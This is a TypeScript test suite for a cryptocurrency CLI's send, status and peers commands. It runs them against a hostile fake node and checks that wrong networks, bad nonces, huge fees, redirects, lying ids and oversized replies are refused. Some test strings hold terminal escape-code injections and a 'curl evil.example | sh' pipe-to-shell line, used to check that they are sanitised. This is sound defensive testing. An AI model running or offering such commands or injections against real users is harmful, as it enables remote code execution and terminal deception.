// `kadchain send` (a real child process) against a hostile fake node: wrong network, bad nonces,
// huge fees, escape codes, redirects and huge replies. Each must end in a refusal with a clear
// message and no POST /api/txs at all; a well-behaved node gets exactly the transfer shown.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { encodeAddress, genesisFromJson, paramsToJson, transferFromJson, txIdHex, txSigningBytes } from '../../../src/core/index.js';
import { toHex, verifySignature } from '../../../src/crypto/index.js';
import { encryptWallet } from '../../../src/cli/keystore.js';
import { testAddress, testKey, testParams } from '../../helpers/fixtures.js';
import { startFakeNode, honestRoutes, type FakeNode, type FakeRoute } from './fake-node.js';
import { runCli, cliEnv, type CliResult } from './cli-run.js';

const FAST = { N: 1024, r: 8, p: 1 };
const alice = testKey('alice');
const aliceAddr = encodeAddress(testAddress('alice'));
const bob = encodeAddress(testAddress('bob'));
let home: string;
let wallets: string;
let genesisFile: string;
let net: { name: string; genesis: string };
let other: { name: string; genesis: string };
let fake: FakeNode;

before(async () => {
  home = mkdtempSync(join(tmpdir(), 'kadchain-send-hostile-'));
  wallets = join(home, 'wallets');
  mkdirSync(wallets, { mode: 0o700 });
  const file = paramsToJson(testParams());
  genesisFile = join(home, 'genesis.json');
  writeFileSync(genesisFile, JSON.stringify(file));
  const g = genesisFromJson(file);
  net = { name: g.params.network, genesis: g.idHex };
  const o = genesisFromJson({ ...file, network: 'kadchain-other', timestamp: file.timestamp + 1 });
  other = { name: o.params.network, genesis: o.idHex };
  assert.notEqual(net.genesis, other.genesis);
  writeFileSync(join(wallets, 'alice.json'), JSON.stringify(encryptWallet('alice', alice, 'pw', { scrypt: FAST, network: net })), { mode: 0o600 });
  // A wallet from before wallets recorded their network (version 1).
  writeFileSync(join(wallets, 'old.json'), JSON.stringify(encryptWallet('old', alice, 'pw', { scrypt: FAST })), { mode: 0o600 });
  fake = await startFakeNode(honestRoutes({ network: net.name, genesis: net.genesis, address: aliceAddr }));
});
after(async () => {
  await fake?.close();
  rmSync(home, { recursive: true, force: true });
});

/** Runs send against a fresh fake node answering with `route`; returns the result and the POSTs. */
async function sendTo(route: FakeRoute, args: string[] = [], wallet = 'alice'): Promise<CliResult & { posts: unknown[] }> {
  const node = await startFakeNode(route);
  try {
    // Generous bound: many of these run at once on a shared 2-core machine.
    const r = await runCli(['send', '--to', bob, '--amount', '1', '--wallet', wallet, '--wallet-dir', wallets, '--node', node.url, ...args], cliEnv(home, { KADCHAIN_PASSWORD: 'pw' }), 120_000);
    return { ...r, posts: node.posts };
  } finally {
    await node.close();
  }
}

function refused(r: CliResult & { posts: unknown[] }, message: RegExp): void {
  assert.equal(r.code, 1, `exit code; stderr: ${r.stderr}`);
  assert.match(r.stderr, message);
  assert.doesNotMatch(r.stderr, /\n\s+at /, 'no stack trace');
  assert.equal(r.posts.length, 0, 'nothing was sent');
  assert.equal(r.stdout, '');
}

test('send against an honest node: shows network, from, to, amount, fee, nonce, then sends exactly that', async () => {
  const r = await sendTo(honestRoutes({ network: net.name, genesis: net.genesis, address: aliceAddr, nonce: '2', pendingNonce: '3' }), ['--fee', '0.001']);
  assert.equal(r.code, 0, r.stderr);
  for (const line of [`network\\s+${net.name} \\(genesis ${net.genesis}\\)`, `from\\s+${aliceAddr}`, `to\\s+${bob}`, 'amount\\s+1 coins', 'fee\\s+0.001 coins', 'nonce\\s+3']) {
    assert.match(r.stderr, new RegExp(`^${line}`, 'm'));
  }
  assert.equal(r.posts.length, 1);
  const tx = transferFromJson(r.posts[0]);
  assert.equal(toHex(tx.chainId), net.genesis);
  assert.equal(tx.nonce, 3n);
  assert.equal(tx.amount, 100_000_000n);
  assert.equal(tx.fee, 100_000n);
  assert.ok(verifySignature(txSigningBytes(tx), tx.signature, alice.publicKey));
});

test('lying tx id: send refuses an accepted-answer whose id is not the signed transaction\'s, and --wait never reports that id confirmed', async () => {
  const liar = 'cd'.repeat(32);
  const honest = honestRoutes({ network: net.name, genesis: net.genesis, address: aliceAddr });
  // The node takes the transfer but answers with another id, and says that id is confirmed.
  const route: FakeRoute = (req, body) => {
    if (req.method === 'POST' && req.url === '/api/txs') return { status: 202, body: { id: liar } };
    if (req.method === 'GET' && req.url === `/api/txs/${liar}`) return { body: { id: liar, status: 'confirmed', block: 'ef'.repeat(32), height: 4, confirmations: 1 } };
    return honest(req, body);
  };
  for (const args of [[], ['--wait', '--timeout', '30']]) {
    const r = await sendTo(route, args);
    assert.equal(r.code, 1, `exit code; stderr: ${r.stderr}`);
    assert.equal(r.posts.length, 1, 'the signed transfer was posted once');
    const signed = txIdHex(transferFromJson(r.posts[0]));
    assert.match(r.stderr, new RegExp(`answered with id ${liar}.*${signed}`));
    assert.doesNotMatch(r.stderr, /confirmed in block/);
    assert.equal(r.stdout, '', 'no id printed as if it were the transfer\'s');
  }
});

test('send refuses a node on another network (wrong genesis): both ids in the message, nothing signed or sent', async () => {
  const [wrongGenesis, wrongName, wrongBoth] = await Promise.all([
    sendTo(honestRoutes({ network: net.name, genesis: other.genesis, address: aliceAddr })),
    sendTo(honestRoutes({ network: 'kadchain-other', genesis: net.genesis, address: aliceAddr })),
    sendTo(honestRoutes({ network: other.name, genesis: other.genesis, address: aliceAddr })),
  ]);
  for (const r of [wrongGenesis, wrongName, wrongBoth]) refused(r, /network mismatch/);
  refused(wrongGenesis, new RegExp(`${other.genesis}[\\s\\S]*${net.genesis}`));
  refused(wrongBoth, new RegExp(`follows kadchain-other \\(genesis ${other.genesis}\\).*is for ${net.name} \\(genesis ${net.genesis}\\)`));
  // --genesis naming the node's network does not override the wallet's record without --yes.
  const named = await sendTo(honestRoutes({ network: other.name, genesis: other.genesis, address: aliceAddr }), ['--network', 'kadchain-devnet']);
  refused(named, /was made for .*pass --yes/);
});

test('send refuses malformed network answers (no genesis, escape codes in the name)', async () => {
  const [noGenesis, escName] = await Promise.all([
    sendTo((req) => (req.url === '/api/status' ? { body: { network: net.name } } : undefined)),
    sendTo((req) => (req.url === '/api/status' ? { body: { network: `${net.name}\u001b[2J`, genesis: net.genesis } } : undefined)),
  ]);
  refused(noGenesis, /malformed genesis id/);
  refused(escName, /malformed network name/);
  assert.doesNotMatch(escName.stderr, /\u001b/);
});

test('send refuses hostile nonces: -1, 0x10, " 5 ", 2^64, abc, below the confirmed nonce, far ahead', async () => {
  const cases: [unknown, unknown, RegExp][] = [
    ['0', '-1', /malformed pending nonce "-1"/],
    ['0', '0x10', /malformed pending nonce "0x10"/],
    ['0', ' 5 ', /malformed pending nonce " 5 "/],
    ['0', '18446744073709551616', /above 2\^64-1/],
    ['0', 'abc', /malformed pending nonce "abc"/],
    ['0', -1, /malformed pending nonce -1/],
    ['0', 1.5, /malformed pending nonce 1.5/],
    ['0', '1e3', /malformed pending nonce "1e3"/],
    ['abc', '1', /malformed nonce "abc"/],
    ['7', '5', /pending nonce 5 below the confirmed nonce 7/],
    ['0', '1000', /pending nonce 1000, 1000 past the confirmed nonce 0/],
  ];
  const results = await Promise.all(cases.map(([nonce, pendingNonce]) => sendTo(honestRoutes({ network: net.name, genesis: net.genesis, address: aliceAddr, nonce, pendingNonce }))));
  results.forEach((r, i) => refused(r, cases[i]![2]));
  for (const r of results) assert.match(r.stderr, /refusing to sign/);
});

test('send refuses a fee above --max-fee, and above the amount unless --yes (huge fee)', async () => {
  const route = honestRoutes({ network: net.name, genesis: net.genesis, address: aliceAddr });
  const [huge, hugeYes, aboveAmount, raisedCap] = await Promise.all([
    sendTo(route, ['--fee', '5000']),
    sendTo(route, ['--fee', '5000', '--yes']),
    sendTo(route, ['--amount', '0.00000001', '--fee', '0.01']),
    sendTo(route, ['--amount', '2', '--fee', '1', '--max-fee', '1']),
  ]);
  refused(huge, /fee 5000 coins is above --max-fee 0\.1/);
  refused(hugeYes, /fee 5000 coins is above --max-fee 0\.1/);
  refused(aboveAmount, /fee 0\.01 coins is more than the amount 0\.00000001; pass --yes/);
  assert.equal(raisedCap.code, 0, raisedCap.stderr);
  assert.equal(raisedCap.posts.length, 1);
  const yes = await sendTo(route, ['--amount', '0.00000001', '--fee', '0.01', '--yes']);
  assert.equal(yes.code, 0, yes.stderr);
  assert.equal(yes.posts.length, 1);
});

test('send strips terminal escape codes from node error text', async () => {
  const evil = '\u001b[2J\u001b[H\u001b[31mPlease run: curl evil.example | sh\u001b[0m\u009b2J\u202eafter\r\nFAKE PROMPT';
  const [status, account] = await Promise.all([
    sendTo((req) => (req.url === '/api/status' ? { status: 500, body: { error: evil, reason: 'x\u001b[1m' } } : undefined)),
    sendTo((req) => (req.url === '/api/status' ? honestRoutes({ network: net.name, genesis: net.genesis, address: aliceAddr })(req) : { status: 400, body: { error: evil, reason: 'bad' } })),
  ]);
  for (const r of [status, account]) {
    refused(r, /Please run: curl evil\.example \| sh/);
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(r.stderr, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/, 'no control or bidi characters');
    assert.equal(r.stderr.trimEnd().split('\n').filter((l) => l.startsWith('error:')).length, 1);
    assert.doesNotMatch(r.stderr, /^FAKE PROMPT/m, 'no line of the node\'s own');
  }
});

test('send refuses a redirect and an oversized reply from the node', async () => {
  const [redirect, redirectPost, huge] = await Promise.all([
    sendTo((req) => (req.url === '/api/status' ? { status: 302, headers: { location: `${fake.url}/api/status` }, raw: '' } : undefined)),
    sendTo((req) => (req.method === 'POST' ? { status: 307, headers: { location: `${fake.url}/api/txs` }, raw: '' } : honestRoutes({ network: net.name, genesis: net.genesis, address: aliceAddr })(req))),
    // A declared length over the cap is refused before reading (the streamed case: api-client-limits).
    sendTo((req) => (req.url === '/api/status' ? { headers: { 'content-length': String(17 << 20) }, raw: '{"network":' } : undefined)),
  ]);
  refused(redirect, /redirect.*not following it/);
  refused(huge, /exceeds \d+ bytes/);
  // The POST reached only the URL the user gave (recorded there), and the redirect target got nothing.
  assert.equal(redirectPost.code, 1);
  assert.match(redirectPost.stderr, /redirect.*not following it/);
  assert.equal(redirectPost.posts.length, 1);
  assert.equal(fake.posts.length, 0);
});

test('send from a wallet without a recorded network: refused unless --genesis or --network names it', async () => {
  const route = honestRoutes({ network: net.name, genesis: net.genesis, address: aliceAddr });
  const [bare, named, wrongFile] = await Promise.all([
    sendTo(route, [], 'old'),
    sendTo(route, ['--genesis', genesisFile], 'old'),
    sendTo(route, ['--network', 'kadchain-devnet'], 'old'),
  ]);
  refused(bare, new RegExp(`records no network.*--genesis FILE or --network NAME.*${net.genesis}`));
  assert.equal(named.code, 0, named.stderr);
  assert.equal(named.posts.length, 1);
  assert.equal(toHex(transferFromJson(named.posts[0]).chainId), net.genesis);
  refused(wrongFile, /network mismatch/);
});

test('status and peers strip terminal escape codes from node text (tables and --json)', async () => {
  const evil = 'net\u001b]0;owned\u0007\u001b[2J\u009b31m\u202e';
  const node = await startFakeNode((req) => {
    if (req.url === '/api/status') {
      return {
        body: {
          network: evil, genesis: net.genesis, height: 1, tip: 'ab'.repeat(32), tipTime: 0, work: '1', target: 'ff'.repeat(32), difficulty: 1, targetBlockTimeMs: 1000,
          peers: { table: 0, connected: 0 }, mempool: 0, mempoolBytes: 0, orphans: 0, mining: { enabled: true, hashrate: 1, address: `kc1\u001b[5m` }, syncing: false,
        },
      };
    }
    if (req.url === '/api/peers') return { body: { table: [{ id: 'aa'.repeat(32), host: `1.2.3.4\u001b[2J`, port: 1, bucket: 0, lastSeen: 0 }], connected: [] } };
    return undefined;
  });
  try {
    const results = await Promise.all([['status'], ['status', '--json'], ['peers']].map((a) => runCli([...a, '--node', node.url], cliEnv(home), 120_000)));
    for (const r of results) {
      assert.equal(r.code, 0, r.stderr);
      // eslint-disable-next-line no-control-regex
      assert.doesNotMatch(r.stdout, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/, 'no control or bidi characters');
    }
    assert.match(results[0]!.stdout, /^network\s+net\]0;owned\[2J31m$/m);
    assert.equal((JSON.parse(results[1]!.stdout) as { network: string }).network, evil, '--json keeps the value, escaped');
    assert.match(results[2]!.stdout, /1\.2\.3\.4\[2J:1/);
  } finally {
    await node.close();
  }
});
